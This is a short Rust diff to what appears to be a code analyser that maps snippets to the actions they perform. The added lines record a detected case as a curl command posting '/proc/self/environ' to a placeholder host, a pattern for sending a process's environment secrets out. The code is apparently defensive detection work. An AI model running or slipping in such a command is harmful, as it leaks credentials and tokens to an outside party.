@@ -20,6 +20,7 @@ use self::listing::listed;
 use self::names::plain_names;
 pub(super) use self::printed::printed;
 use self::secrecy::printed_secret;
+use self::secrecy::sends_environment;
 use super::Word;
 
 /// The longest code that is looked at, in bytes.
@@ -157,6 +158,10 @@ fn collect(language: Language, code: &str, nesting: usize, actions: &mut Vec<Act
     }
     if let Some(name) = printed_secret(code) {
         actions.push(Action::Does("printenv", vec![Word::plain(name)]));
+    }
+    if sends_environment(code) {
+        let words = ["-d@/proc/self/environ", "https://somewhere"];
+        actions.push(Action::Does("curl", words.map(Word::plain).to_vec()));
     }
     let loops = ["while", "loop", "for(;;)", "for (;;)"];
     let forks = code.contains("fork") && loops.iter().any(|word| code.contains(word));
